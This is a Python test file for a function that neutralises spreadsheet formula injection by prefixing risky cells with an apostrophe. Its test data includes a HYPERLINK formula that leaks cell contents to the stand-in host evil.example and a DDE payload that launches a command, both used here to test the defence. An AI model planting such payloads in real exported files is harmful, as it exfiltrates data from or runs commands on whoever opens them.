"""Text cells that a spreadsheet would run as a formula are made text; nothing else changes."""

from __future__ import annotations

import pytest

from mtasts.core.spreadsheet import safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1)', '\'=HYPERLINK("http://evil.example/?leak="&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
    ],
)
def test_a_formula_is_written_as_text(value: str, written: str) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize("value", ["Example Sender", "mx1.example.com", "192.0.2.1", "", "a=b", "x-y", -5, 0, 12, None])
def test_everything_else_is_written_as_it_is(value: object) -> None:
    assert safe_cell(value) == value


def test_a_row_keeps_its_numbers_so_the_columns_still_sum() -> None:
    assert safe_row(["=evil", 3, "ok", -1]) == ["'=evil", 3, "ok", -1]
